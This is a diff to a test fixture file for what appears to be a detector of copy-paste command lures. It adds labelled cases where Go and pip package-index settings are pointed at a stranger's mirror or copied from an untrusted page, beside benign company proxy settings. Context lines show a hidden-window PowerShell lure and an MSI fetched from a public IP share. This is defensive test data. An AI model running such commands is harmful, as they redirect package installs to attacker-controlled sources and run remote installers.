@@ -79,7 +79,54 @@ SPACED_LURES = [
     ("explorer_bar", LURE_PAGE, "malicious", "https://docs-verify.example/x powershell -w h"),
 ]
 
+# the company's package proxy or index set in the environment, from its wiki on the wiki
+# vendor's site (the tenant named like the company), as `npm config set registry` already is
+TENANT_WIKI = "https://acme.atlassian.net/wiki/spaces/ENG/pages/418273/Developer+setup"
+OWN_INDEX = [
+    *each(
+        TENANT_WIKI,
+        "terminal",
+        "go env -w GOPROXY=https://goproxy.acme.example,direct",
+        "go env -w GOPROXY=https://athens.acme.example GONOSUMDB=git.acme.example/*",
+        "export PIP_INDEX_URL=https://pypi.acme.example/simple",
+        "export GOPROXY=https://goproxy.acme.example,https://proxy.golang.org,direct",
+    ),
+    *each(
+        "https://acme.notion.site/Go-toolchain-setup-8f3a1c",
+        "terminal",
+        "go env -w GOPROXY=https://goproxy.acme.example,direct",
+    ),
+]
+
 LAN_PAGE = "https://it-helpdesk-portal.example/fix"
+INDEX_LURES = [
+    # a stranger's index from the tenant wiki, the company's beside a stranger's, the
+    # company's name from a page of anyone's (a gist)
+    (
+        "terminal",
+        TENANT_WIKI,
+        "malicious",
+        "go env -w GOPROXY=https://goproxy.fast-mirror.example,direct",
+    ),
+    (
+        "terminal",
+        TENANT_WIKI,
+        "malicious",
+        "export GOPROXY=https://goproxy.acme.example,direct PIP_INDEX_URL=https://pypi.fast-mirror.example/simple",
+    ),
+    (
+        "terminal",
+        "https://gist.github.com/someone/8f3a1c",
+        "malicious",
+        "go env -w GOPROXY=https://goproxy.acme.example,direct",
+    ),
+    (
+        "terminal",
+        "https://acme-support.atlassian.net/wiki/spaces/HELP/pages/1/Fix",
+        "malicious",
+        "export PIP_INDEX_URL=https://pypi.acme.example/simple",
+    ),
+]
 SHARE_LURES = [
     # a public address, WebDAV (over the internet), or a stranger's share beside the own one
     ("run_dialog", LAN_PAGE, "malicious", "\\\\198.51.100.44\\deploy\\agent.msi"),
@@ -108,4 +155,5 @@ SHARE_LURES = [
 LOOK_ALIKES = [
     ("spaced-address-look-alike", "windows", SPACED_LURES),
     ("own-share-look-alike", "windows", SHARE_LURES),
+    ("own-index-look-alike", "any", INDEX_LURES),
 ]
